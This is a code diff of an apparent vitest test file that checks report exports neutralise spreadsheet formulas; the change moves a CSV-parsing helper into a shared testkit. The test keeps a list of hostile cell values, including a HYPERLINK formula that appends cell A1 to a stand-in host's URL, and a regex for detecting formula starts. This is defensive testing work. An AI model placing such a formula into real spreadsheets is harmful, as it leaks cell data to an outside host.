@@ -7,6 +7,7 @@ import { join } from 'node:path'
 import ExcelJS from 'exceljs'
 import { afterAll, beforeAll, describe, expect, it } from 'vitest'
 import { openTestCore, REPO_ROOT } from '../testing'
+import { parseCsv } from './readCsv.testkit'
 
 const ARTIFACTS = join(REPO_ROOT, 'e2e', 'artifacts', 'report-formulas')
 const INTEL_TITLE = '=HYPERLINK("http://x.example/?"&A1,"点我")'
@@ -16,33 +17,6 @@ const GRID = '+1+2 网格'
 const NOTE = '-2+3'
 const HOSTILE = [INTEL_TITLE, ORDER_TITLE, CUSTOMER, GRID]
 const FORMULA_START = /^[=+\-@\t\r]/
-
-/** Splits CSV text into rows of fields (quotes and doubled quotes undone). */
-function parseCsv(text: string): string[][] {
-  const rows: string[][] = []
-  let row: string[] = []
-  let cell = ''
-  let quoted = false
-  for (let i = 0; i < text.length; i++) {
-    const c = text[i]!
-    if (quoted) {
-      if (c === '"' && text[i + 1] === '"') cell += text[++i]
-      else if (c === '"') quoted = false
-      else cell += c
-    } else if (c === '"') quoted = true
-    else if (c === ',') {
-      row.push(cell)
-      cell = ''
-    }
-    else if (c === '\n' || c === '\r') {
-      if (c === '\r' && text[i + 1] === '\n') i++
-      row.push(cell)
-      rows.push(row)
-      ;[row, cell] = [[], '']
-    } else cell += c
-  }
-  return rows
-}
 
 describe('report exports neutralise formulas', () => {
   const core = openTestCore()
